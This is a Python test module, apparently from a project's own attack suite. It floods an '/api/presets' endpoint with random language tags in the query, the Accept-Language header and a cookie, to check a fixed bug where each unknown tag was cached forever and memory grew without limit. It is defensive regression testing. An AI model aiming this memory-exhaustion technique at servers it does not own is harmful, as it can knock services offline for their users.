"""Send unknown languages everywhere the server reads one.

Each was parsed and cached for ever, before the rate limit and again for every refusal: 6,000
requests took half a gigabyte.
"""

from __future__ import annotations

from random import Random
from string import ascii_lowercase
from typing import TYPE_CHECKING

from tests.attacks.client import repeat

if TYPE_CHECKING:
    import httpx

    from tests.attacks.client import Target

AT_ONCE = 8
TAGS = 12


async def attack(target: Target, until: float) -> None:
    """Send small requests in random languages."""
    random = Random()

    def tag() -> str:
        letters = "".join(random.choices(ascii_lowercase, k=9))
        return f"{letters[:3]}-{letters[3:7].title()}-{letters[7:].upper()}"

    async with target.create_anonymous_http() as http:

        async def ask(_: int) -> httpx.Response:
            return await http.get(
                "/api/presets",
                params={"lang": tag()},
                headers={
                    "Accept-Language": ",".join(tag() for _ in range(TAGS)),
                    "Cookie": f"fourfold_lang={tag()}",
                },
            )

        await repeat(target, target.scale(AT_ONCE), until, ask)
